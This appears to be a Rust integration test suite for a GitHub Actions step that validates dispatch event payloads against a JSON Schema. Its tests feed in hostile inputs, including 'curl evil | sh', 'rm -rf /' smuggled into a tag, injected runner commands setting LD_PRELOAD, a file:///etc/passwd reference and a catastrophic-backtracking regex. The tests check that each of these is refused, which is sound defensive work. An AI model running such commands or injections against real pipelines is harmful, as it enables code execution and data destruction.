//! `repository-dispatch receive` end to end through the built binary: events
//! shaped as GitHub delivers them (tests/fixtures/receive), the runner's
//! files, and what the step wrote to them, printed and exited with.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

/// A runner file (`GITHUB_OUTPUT`, `GITHUB_ENV`) read as the runner reads it.
fn records(text: &str) -> Vec<(String, String)> {
    common::parse_output_file(text)
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/receive")
        .join(name)
}

fn event(name: &str) -> Value {
    serde_json::from_str(&std::fs::read_to_string(fixture(name)).unwrap()).unwrap()
}

const SCHEMA: &str = "deploy.schema.json";

/// One step: a workspace holding the schema, the event file, the runner's
/// files.
struct Step {
    dir: tempfile::TempDir,
    env: Vec<(String, String)>,
}

/// What one run did.
#[derive(Debug)]
struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
    outputs: String,
    env_file: String,
}

impl Ran {
    fn errors(&self) -> Vec<&str> {
        self.stdout
            .lines()
            .filter(|l| l.starts_with("::error"))
            .collect()
    }

    fn outputs(&self) -> Vec<(String, String)> {
        records(&self.outputs)
    }

    fn wrote_nothing(&self) -> bool {
        self.outputs.is_empty() && self.env_file.is_empty()
    }
}

impl Step {
    /// A step in Actions for `event_name` with the event `event`, the schema
    /// file in the workspace and `inputs` (`INPUT_*` names without the prefix).
    fn new(event_name: &str, event: &Value, inputs: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let workspace = dir.path().join("workspace");
        std::fs::create_dir_all(workspace.join(".github")).unwrap();
        std::fs::copy(fixture(SCHEMA), workspace.join(".github").join(SCHEMA)).unwrap();
        std::fs::write(dir.path().join("event.json"), event.to_string()).unwrap();
        for file in ["set_output", "set_env", "step_summary"] {
            std::fs::write(dir.path().join(file), "").unwrap();
        }
        let p = |name: &str| dir.path().join(name).display().to_string();
        let mut env: Vec<(String, String)> = vec![
            ("GITHUB_ACTIONS".into(), "true".into()),
            ("CI".into(), "true".into()),
            ("GITHUB_EVENT_NAME".into(), event_name.into()),
            ("GITHUB_EVENT_PATH".into(), p("event.json")),
            ("GITHUB_WORKSPACE".into(), p("workspace")),
            ("GITHUB_OUTPUT".into(), p("set_output")),
            ("GITHUB_ENV".into(), p("set_env")),
            ("GITHUB_STEP_SUMMARY".into(), p("step_summary")),
            ("INPUT_SCHEMA-FILE".into(), format!(".github/{SCHEMA}")),
        ];
        for (k, v) in inputs {
            env.retain(|(n, _)| *n != format!("INPUT_{k}"));
            env.push((format!("INPUT_{k}"), (*v).to_owned()));
        }
        Self { dir, env }
    }

    fn dispatch(payload: &Value, inputs: &[(&str, &str)]) -> Self {
        let mut e = event("repository_dispatch.json");
        e["client_payload"] = payload.clone();
        Self::new("repository_dispatch", &e, inputs)
    }

    fn unset(mut self, name: &str) -> Self {
        self.env.retain(|(n, _)| n != name);
        self
    }

    fn run(&self, args: &[&str]) -> Ran {
        let out = Command::new(env!("CARGO_BIN_EXE_repository-dispatch"))
            .arg("receive")
            .args(args)
            .env_clear()
            .envs(self.env.iter().map(|(k, v)| (k, v)))
            .current_dir(self.dir.path())
            .output()
            .expect("the binary runs");
        let read =
            |name: &str| std::fs::read_to_string(self.dir.path().join(name)).unwrap_or_default();
        let ran = Ran {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
            outputs: read("set_output"),
            env_file: read("set_env"),
        };
        assert!(!ran.stderr.contains("panicked"), "{}", ran.stderr);
        // Only workflow commands and plain lines of the step's own: nothing
        // from the payload can start a line.
        for line in ran.stdout.lines() {
            assert!(
                line.starts_with("::error title=")
                    || line.starts_with("::warning::")
                    || !line.starts_with("::"),
                "unexpected command line: {line}"
            );
        }
        ran
    }
}

fn valid_payload() -> Value {
    json!({"image_tag": "sha-0123abc", "environment": "staging"})
}

/// A valid dispatch: exactly the declared properties the payload holds, then
/// `payload`; with env-prefix, exactly their variables.
#[test]
fn a_valid_dispatch_hands_out_exactly_its_declared_values() {
    let step = Step::dispatch(
        &json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": 3}),
        &[
            ("EVENT-TYPES", "build, trigger-deploy"),
            ("SENDERS", "octocat\nDispatch-Bot[bot]"),
            ("ENV-PREFIX", "DEPLOY_"),
        ],
    );
    let r = step.run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.errors().is_empty(), "{r:?}");
    assert_eq!(
        r.outputs(),
        [
            ("environment".to_owned(), "staging".to_owned()),
            ("image_tag".to_owned(), "sha-0123abc".to_owned()),
            ("replicas".to_owned(), "3".to_owned()),
            (
                "payload".to_owned(),
                r#"{"environment":"staging","image_tag":"sha-0123abc","replicas":3}"#.to_owned()
            ),
        ]
    );
    assert_eq!(
        records(&r.env_file),
        [
            ("DEPLOY_ENVIRONMENT".to_owned(), "staging".to_owned()),
            ("DEPLOY_IMAGE_TAG".to_owned(), "sha-0123abc".to_owned()),
            ("DEPLOY_REPLICAS".to_owned(), "3".to_owned()),
        ]
    );
    assert!(
        r.stdout
            .contains("client_payload is valid: outputs environment, image_tag, replicas, payload; environment DEPLOY_ENVIRONMENT, DEPLOY_IMAGE_TAG, DEPLOY_REPLICAS"),
        "{}",
        r.stdout
    );
    // The values are handed out, never printed.
    assert!(!r.stdout.contains("sha-0123abc"), "{}", r.stdout);

    // Whole numbers that arrived as floats read as integers.
    let r = Step::dispatch(
        &json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": 3.0}),
        &[],
    )
    .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        r.outputs()
            .contains(&("replicas".to_owned(), "3".to_owned())),
        "{r:?}"
    );

    // A runner without GITHUB_OUTPUT, or without GITHUB_ENV when variables
    // are wanted: refused before the event is read, nothing half done.
    for (unset, extra) in [
        ("GITHUB_OUTPUT", None),
        ("GITHUB_ENV", Some(("ENV-PREFIX", "D_"))),
    ] {
        let step = Step::dispatch(&valid_payload(), extra.as_slice()).unset(unset);
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        assert_eq!(r.code, 2, "{unset}: {r:?}");
        assert_eq!(r.errors().len(), 1, "{r:?}");
        assert!(
            r.errors()[0].starts_with(&format!("::error title={unset}::{unset} is not set")),
            "{r:?}"
        );
        assert!(r.wrote_nothing());
    }
}

/// A `workflow_dispatch`: its `inputs` are validated; event-types is for
/// `repository_dispatch` only; senders apply to both.
#[test]
fn a_workflow_dispatch_validates_its_inputs() {
    let step = Step::new(
        "workflow_dispatch",
        &event("workflow_dispatch.json"),
        &[("EVENT-TYPES", "trigger-deploy"), ("SENDERS", "octocat")],
    );
    let r = step.run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    let outputs = r.outputs();
    let names: Vec<&str> = outputs.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["dry_run", "environment", "image_tag", "payload"]);
    assert!(r.stdout.contains("inputs is valid"), "{}", r.stdout);

    let mut e = event("workflow_dispatch.json");
    e["inputs"]["environment"] = json!("qa");
    let r = Step::new("workflow_dispatch", &e, &[]).run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Invalid inputs::inputs/environment: enum: expected one of "staging", "production", got "qa""#
        ]
    );
    assert!(r.wrote_nothing());
}

/// Each kind of violation: exit 1, the errors (pointer, rule, expected, the
/// value), and nothing written to the outputs or the environment.
#[test]
fn each_violation_is_named_and_nothing_is_written() {
    let inputs = [
        ("EVENT-TYPES", "trigger-deploy"),
        ("SENDERS", "dispatch-bot[bot]"),
        ("ENV-PREFIX", "DEPLOY_"),
    ];
    let cases: &[(&str, Value, &[&str])] = &[
        (
            "type",
            json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": "3"}),
            &[
                r#"::error title=Invalid client_payload::client_payload/replicas: type: expected integer, got string "3""#,
            ],
        ),
        (
            "minimum",
            json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": 0}),
            &[
                "::error title=Invalid client_payload::client_payload/replicas: minimum: expected at least 1, got 0",
            ],
        ),
        (
            "missing required",
            json!({"image_tag": "sha-0123abc"}),
            &[
                "::error title=Invalid client_payload::client_payload/environment: required: missing (the schema requires it)",
            ],
        ),
        (
            "extra property",
            json!({"image_tag": "sha-0123abc", "environment": "staging", "script": "curl evil | sh"}),
            &[
                "::error title=Invalid client_payload::client_payload/script: additionalProperties: not allowed (the schema does not declare this property)",
            ],
        ),
        (
            "enum",
            json!({"image_tag": "sha-0123abc", "environment": "prod"}),
            &[
                r#"::error title=Invalid client_payload::client_payload/environment: enum: expected one of "staging", "production", got "prod""#,
            ],
        ),
        (
            "pattern",
            json!({"image_tag": "latest; rm -rf /", "environment": "staging"}),
            &[
                r#"::error title=Invalid client_payload::client_payload/image_tag: pattern: expected a string matching ^sha-[0-9a-f]{7,40}$, got "latest; rm -rf /""#,
            ],
        ),
        (
            "not an object",
            json!(["sha-0123abc"]),
            &[
                "::error title=Invalid client_payload::client_payload: type: expected object, got array [\"sha-0123abc\"]",
                "::error title=Invalid payload::client_payload is an array, not an object: send a JSON object",
            ],
        ),
        (
            "several at once",
            json!({"image_tag": 7, "extra": true}),
            &[
                "::error title=Invalid client_payload::client_payload/environment: required: missing (the schema requires it)",
                "::error title=Invalid client_payload::client_payload/extra: additionalProperties: not allowed (the schema does not declare this property)",
                "::error title=Invalid client_payload::client_payload/image_tag: type: expected string, got number 7",
            ],
        ),
    ];
    for (name, payload, expected) in cases {
        let r = Step::dispatch(payload, &inputs).run(&[]);
        assert_eq!(r.code, 1, "{name}: {r:?}");
        let mut errors = r.errors();
        errors.sort_unstable();
        let mut expected = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(errors, expected, "{name}");
        assert!(r.wrote_nothing(), "{name}: {r:?}");
        assert!(
            r.stdout
                .contains("nothing was written to the step's outputs or environment"),
            "{name}: {}",
            r.stdout
        );
    }
}

/// The event type, the sender and the event itself.
#[test]
fn the_event_type_the_sender_and_the_event_are_checked() {
    let mut wrong_type = event("repository_dispatch.json");
    wrong_type["action"] = json!("trigger-deploy\n::set-env name=X::y");
    let r = Step::new(
        "repository_dispatch",
        &wrong_type,
        &[("EVENT-TYPES", "trigger-deploy,rollback")],
    )
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Event type not accepted::the event type "trigger-deploy\n::set-env name=X::y" is not one this step accepts (trigger-deploy, rollback): dispatch one of those, or add it to event-types"#
        ]
    );
    assert!(r.wrote_nothing());

    let r = Step::dispatch(
        &valid_payload(),
        &[("SENDERS", "octocat, release-bot[bot]")],
    )
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Sender not accepted::the event was sent by "dispatch-bot[bot]", who is not among the senders this step accepts (octocat, release-bot[bot]): send it with a token of one of them, or add the login to senders"#
        ]
    );
    assert!(r.wrote_nothing());

    // Another event: this step is not for it, and the event file is not read.
    let step = Step::new("push", &json!({}), &[]);
    std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
    let r = step.run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Not a dispatch::this step validates repository_dispatch and workflow_dispatch events, but this run was started by "push": run it only for those events (if: github.event_name == 'repository_dispatch')"#
        ]
    );
    assert!(r.wrote_nothing());
}

/// A schema that cannot be used: exit 2 before the event is read (it does not
/// even exist here), saying what and where.
#[test]
fn an_unusable_schema_stops_the_step_before_the_event_is_read() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "not JSON",
            r#"{"type": "object",}"#,
            "schema is not valid JSON: trailing comma at line 1 column 19",
        ),
        (
            "not a schema",
            r#"{"type": "strin"}"#,
            "schema: not a valid JSON Schema: at #/type: ",
        ),
        (
            "look-ahead",
            r#"{"properties": {"tag": {"pattern": "^(?=sha-)[a-z0-9-]+$"}}}"#,
            r#"schema: the pattern "^(?=sha-)[a-z0-9-]+$" at #/properties/tag/pattern cannot run on a linear-time regex engine"#,
        ),
        (
            "back-reference",
            r#"{"properties": {"tag": {"pattern": "^(a+)\\1$"}}}"#,
            "cannot run on a linear-time regex engine",
        ),
        (
            "a remote $ref",
            r#"{"properties": {"tag": {"$ref": "https://example.com/tag.json"}}}"#,
            "https://example.com/tag.json",
        ),
        (
            "a file $ref",
            r#"{"properties": {"tag": {"$ref": "file:///etc/passwd"}}}"#,
            "file:///etc/passwd",
        ),
        ("an array", "[1]", "schema is JSON but not a schema"),
        (
            "an unknown draft",
            r#"{"$schema": "http://example.com/draft", "type": "object"}"#,
            "$schema http://example.com/draft is not a draft this step knows",
        ),
        (
            "a format this build cannot check",
            r#"{"properties": {"host": {"type": "string", "format": "idn-hostname"}}}"#,
            r#""format": "idn-hostname" at #/properties/host cannot be checked by this build"#,
        ),
        (
            "keywords a draft-07 $ref hides",
            r##"{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/definitions/x", "definitions": {"x": {"type": "object"}}, "properties": {"tag": {"pattern": "^[a-z]+$"}}, "required": ["tag"]}"##,
            "its draft ignores every keyword beside a top-level $ref, so properties, required would not be checked",
        ),
        (
            "a $ref loop",
            r##"{"$ref": "#/$defs/x", "$defs": {"x": {"$ref": "#/$defs/x"}}}"##,
            "a $ref refers to itself in a loop",
        ),
        (
            "a $ref to nothing",
            r##"{"properties": {"a": {"$ref": "#/$defs/missing"}}}"##,
            "json-pointer in #/$defs/missing not found",
        ),
    ];
    for (name, schema, says) in cases {
        let step =
            Step::dispatch(&valid_payload(), &[("SCHEMA", schema)]).unset("INPUT_SCHEMA-FILE");
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        assert_eq!(r.code, 2, "{name}: {r:?}");
        let errors = r.errors();
        assert_eq!(errors.len(), 1, "{name}: {errors:?}");
        assert!(
            errors[0].starts_with("::error title=Invalid schema::") && errors[0].contains(says),
            "{name}: {}",
            errors[0]
        );
        assert!(r.wrote_nothing(), "{name}");
    }
    // Both or neither of schema and schema-file.
    let r = Step::dispatch(&valid_payload(), &[("SCHEMA", "{}")]).run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.errors()[0].contains("both schema and schema-file are set: give one of them"));
    let r = Step::dispatch(&valid_payload(), &[])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.errors()[0].contains("no schema: set schema"), "{r:?}");
    // A schema file that is not there.
    let r = Step::dispatch(&valid_payload(), &[("SCHEMA-FILE", "schemas/missing.json")]).run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.errors()[0].contains("workspace/schemas/missing.json could not be read"),
        "{r:?}"
    );
}

/// Hostile values: no injected command, output or variable.
#[test]
fn hostile_values_inject_nothing() {
    let schema = r#"{"type": "object", "properties": {"note": {"type": "string"}, "tag": {"type": "string", "maxLength": 40}}}"#;
    // A value that is a line break, a runner command, a delimiter-like line
    // and a would-be record, in an output: it stays one value.
    let hostile = "line one\n::set-env name=LD_PRELOAD::/tmp/x.so\nEOF\nghadelimiter_0\nINJECTED<<EOF\nx\nEOF";
    let r = Step::dispatch(&json!({"note": hostile}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        r.outputs(),
        [
            ("note".to_owned(), hostile.to_owned()),
            ("payload".to_owned(), json!({"note": hostile}).to_string()),
        ]
    );
    // The same value for the environment file is refused, and nothing is
    // written; the error shows it escaped on one line.
    let r = Step::dispatch(
        &json!({"note": hostile}),
        &[("SCHEMA", schema), ("ENV-PREFIX", "P_")],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            "::error title=Value refused for the environment::client_payload/note: the value holds a line break or NUL, which an environment variable (P_NOTE) must not: read it from the step output note instead, or forbid it in the schema (a pattern)"
        ]
    );
    assert!(r.wrote_nothing());
    let r = Step::dispatch(
        &json!({"note": "a\u{0}b"}),
        &[("SCHEMA", schema), ("ENV-PREFIX", "P_")],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.wrote_nothing());

    // A 60 KB value and a 60 KB property name: each error is cut short.
    let long = "x".repeat(60_000);
    let r = Step::dispatch(
        &json!({"tag": long, (long.clone() + "\n::error::forged"): 1}),
        &[(
            "SCHEMA",
            &schema.replace("}}}", "}}, \"additionalProperties\": false}"),
        )],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    let errors = r.errors();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(errors.iter().all(|e| e.len() < 400), "{errors:?}");
    assert!(
        errors.iter().any(|e| e
            .contains("maxLength: expected at most 40 characters, got 60000: \"xxx")
            && e.contains("… (60002 characters)")),
        "{errors:?}"
    );
    assert!(!r.stdout.contains("\n::error::forged"), "{}", r.stdout);
    assert!(errors.iter().all(|e| !e.contains("%0A")), "{errors:?}");
    assert!(r.wrote_nothing());
    // A name from the payload shows its line break as an escape, not as a
    // line of the message.
    let r = Step::dispatch(
        &json!({"a\n::error::forged": 1}),
        &[(
            "SCHEMA",
            &schema.replace("}}}", "}}, \"additionalProperties\": false}"),
        )],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(
        r.errors(),
        [
            "::error title=Invalid client_payload::client_payload/a\\n::error::forged: additionalProperties: not allowed (the schema does not declare this property)"
        ]
    );

    // Nesting deeper than the JSON reader's limit: refused, nothing written.
    let mut deep = json!("bottom");
    for _ in 0..200 {
        deep = json!([deep]);
    }
    let r = Step::dispatch(&json!({"note": deep}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    let errors = r.errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].starts_with("::error title=Event unreadable::the event file is not JSON that can be read (recursion limit exceeded"),
        "{}",
        errors[0]
    );
    assert!(r.wrote_nothing());
}

/// An exponential-backtracking pattern for backtracking engines, on an
/// adversarial value: the linear-time engine answers (the time is bounded by
/// the benchmark, bench/receive.sh; here only the answer is checked).
#[test]
fn a_backtracking_pattern_is_answered() {
    let schema = r#"{"properties": {"tag": {"type": "string", "pattern": "^(a+)+$"}}}"#;
    let value = format!("{}!", "a".repeat(10_000));
    let r = Step::dispatch(&json!({"tag": value}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.errors()[0].contains("tag: pattern: expected a string matching ^(a+)+$"));
}

/// Names: env-prefix and the properties it makes variables of.
#[test]
fn unsafe_variable_names_are_refused() {
    let cases: &[(&str, &str)] = &[
        ("LD_", "env-prefix LD_ would set LD_* variables"),
        ("GITHUB_", "env-prefix GITHUB_ would set GITHUB_* variables"),
        (
            "deploy_",
            "is not a variable prefix: use upper-case letters",
        ),
        ("DEPLOY-", "is not a variable prefix"),
        ("DEPLOY", "ending with _, such as DEPLOY_"),
        ("LUA_", "env-prefix LUA_ would set LUA_* variables"),
        ("CARGO_", "env-prefix CARGO_ would set CARGO_* variables"),
    ];
    for (prefix, says) in cases {
        let r = Step::dispatch(&valid_payload(), &[("ENV-PREFIX", prefix)]).run(&[]);
        assert_eq!(r.code, 2, "{prefix}: {r:?}");
        assert!(r.errors()[0].contains(says), "{prefix}: {:?}", r.errors());
        assert!(r.wrote_nothing());
    }
    let r = Step::dispatch(
        &json!({"command": "id"}),
        &[
            ("SCHEMA", r#"{"properties": {"command": {}}}"#),
            ("ENV-PREFIX", "PROMPT_"),
        ],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.errors()[0].contains("the property \"command\" would be exported as PROMPT_COMMAND"),
        "{:?}",
        r.errors()
    );
    // Output names the runner would not tell apart.
    let r = Step::dispatch(
        &json!({"tag": "abc"}),
        &[(
            "SCHEMA",
            r#"{"properties": {"tag": {"pattern": "^[a-z]+$"}, "TAG": {}}}"#,
        )],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.errors()[0].contains("differ only in case"),
        "{:?}",
        r.errors()
    );
}

/// From a shell: flags, the event from a file, the payload on stdout for jq,
/// and help for a typo.
#[test]
fn the_command_line_validates_a_saved_event() {
    let step = Step::dispatch(&valid_payload(), &[]);
    let event_file = step.dir.path().join("event.json").display().to_string();
    let schema_file = fixture(SCHEMA).display().to_string();
    let shell = Step {
        dir: tempfile::tempdir().unwrap(),
        env: vec![("PATH".into(), "/usr/bin:/bin".into())],
    };
    let r = shell.run(&[
        "--schema-file",
        &schema_file,
        "--event",
        &event_file,
        "--event-name=repository_dispatch",
        "--senders",
        "dispatch-bot[bot]",
    ]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        r.stdout,
        "{\"environment\":\"staging\",\"image_tag\":\"sha-0123abc\"}\n"
    );
    assert!(r.stderr.contains("client_payload is valid"), "{}", r.stderr);

    // Characters a terminal could act on arrive as \u escapes: the same
    // value for jq, nothing for the terminal.
    let tricky = json!({"note": "a\u{2028}b\u{85}c\u{202e}d##[e\u{1f600}"});
    let saved = Step::dispatch(&tricky, &[]);
    let tricky_file = saved.dir.path().join("event.json").display().to_string();
    let r = shell.run(&[
        "--schema",
        r#"{"properties": {"note": {"type": "string"}}}"#,
        "--event",
        &tricky_file,
        "--event-name",
        "repository_dispatch",
    ]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        r.stdout,
        "{\"note\":\"a\\u2028b\\u0085c\\u202ed##[e\\ud83d\\ude00\"}\n"
    );
    assert_eq!(serde_json::from_str::<Value>(&r.stdout).unwrap(), tricky);

    // Another event is refused by its name alone, with no event file.
    let r = shell.run(&["--schema", "{}", "--event-name", "push"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("started by \"push\""), "{}", r.stderr);

    let r = shell.run(&["--schemafile", &schema_file]);
    assert_eq!(r.code, 2, "{r:?}");
    assert_eq!(
        r.stderr,
        "error: receive has no option --schemafile: did you mean --schema-file?\n"
    );
    // An argument that could be a secret is never echoed.
    let secret = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
    let r = shell.run(&[secret]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(!r.stderr.contains("ghp_0123"), "{}", r.stderr);
    assert!(
        r.stderr.starts_with("error: receive has no option "),
        "{}",
        r.stderr
    );
    let r = shell.run(&["--schema-file", &schema_file]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.stderr.contains("GITHUB_EVENT_NAME is not set"),
        "{}",
        r.stderr
    );
    let r = shell.run(&["--help"]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        r.stdout.starts_with("Usage: repository-dispatch receive"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("--env-prefix PREFIX"), "{}", r.stdout);
}

/// A pattern is shown as the schema writes it, not as translated for the
/// regex engine (`\d` would read `[0-9]`), also through a `$ref`.
#[test]
fn patterns_are_shown_as_written() {
    let schema = r##"{"$defs": {"word": {"pattern": "^\\w+$"}}, "properties": {"n": {"type": "string", "pattern": "^\\d+$"}, "w": {"$ref": "#/$defs/word"}}}"##;
    let r = Step::dispatch(&json!({"n": "x1", "w": "a b"}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    let mut errors = r.errors();
    errors.sort_unstable();
    assert_eq!(
        errors,
        [
            r#"::error title=Invalid client_payload::client_payload/n: pattern: expected a string matching ^\d+$, got "x1""#,
            r#"::error title=Invalid client_payload::client_payload/w: pattern: expected a string matching ^\w+$, got "a b""#,
        ]
    );
}

/// A `format` no checker knows (a typo) checks nothing: said, and the step
/// goes on.
#[test]
fn an_unknown_format_is_warned_of() {
    let schema = r#"{"properties": {"host": {"type": "string", "format": "hostnmae"}}}"#;
    let r = Step::dispatch(&json!({"host": "not a host name"}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    let warnings: Vec<&str> = r
        .stdout
        .lines()
        .filter(|l| l.starts_with("::warning::"))
        .collect();
    assert_eq!(warnings.len(), 1, "{}", r.stdout);
    assert!(
        warnings[0].starts_with(
            "::warning::\"format\": \"hostnmae\" at #/properties/host is not a format this step knows, so it checks nothing: use one of regex, ipv4"
        ),
        "{}",
        warnings[0]
    );
    // A known one checks.
    let r = Step::dispatch(
        &json!({"host": "not a host name"}),
        &[("SCHEMA", &schema.replace("hostnmae", "hostname"))],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(!r.stdout.contains("::warning::"), "{}", r.stdout);
    assert!(
        r.errors()[0].contains("client_payload/host: format: expected a valid hostname"),
        "{:?}",
        r.errors()
    );
}
